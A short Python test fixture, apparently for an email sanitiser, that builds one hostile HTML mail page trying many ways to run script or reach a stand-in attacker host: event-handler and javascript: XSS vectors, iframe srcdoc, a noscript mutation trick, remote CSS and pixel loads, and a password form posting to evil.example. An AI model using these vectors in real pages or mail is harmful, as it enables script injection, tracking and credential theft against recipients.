"""A page of a mail that tries everything to run, load, send or lead away."""

from __future__ import annotations

AWAY = "http://evil.example"
OWNED = "document.title='owned'"
PAGE = f"""<html><head><base href="{AWAY}/">
<meta http-equiv="refresh" content="0;url={AWAY}/refreshed">
<style>@import url({AWAY}/imported.css); p {{ background: url({AWAY}/background.png) }}</style>
<link rel="stylesheet" href="{AWAY}/linked.css"><link rel="prefetch" href="{AWAY}/prefetched">
<script>{OWNED}</script><script src="{AWAY}/script.js"></script></head>
<body onload="{OWNED}" background="{AWAY}/body.png">
<p style="background:url({AWAY}/style.png)">Hello, this is Emily.</p>
<img src="{AWAY}/pixel.png" onerror="{OWNED}" alt="logo"><img srcset="{AWAY}/wide.png 2x">
<img src=x onerror={OWNED}>
<svg onload="{OWNED}"><image href="{AWAY}/drawn.png"/><script>{OWNED}</script></svg>
<iframe src="{AWAY}/framed"></iframe><iframe srcdoc="<script>top.{OWNED}</script>"></iframe>
<object data="{AWAY}/object"></object><embed src="{AWAY}/embedded">
<video src="{AWAY}/video" autoplay poster="{AWAY}/poster.png"></video><audio src="{AWAY}/audio" autoplay></audio>
<form action="{AWAY}/posted"><input name="password" autofocus onfocus="{OWNED}"><button>Sign in</button></form>
<a href="javascript:{OWNED}">Click</a> <a href="{AWAY}/followed" ping="{AWAY}/pinged">here</a>
<table background="{AWAY}/table.png"><tr><td onclick="{OWNED}">Cell</td></tr></table>
<noscript><p title="</noscript><img src={AWAY}/noscript.png onerror={OWNED}>"></p></noscript>
<span style="display:none">hidden words</span></body></html>"""
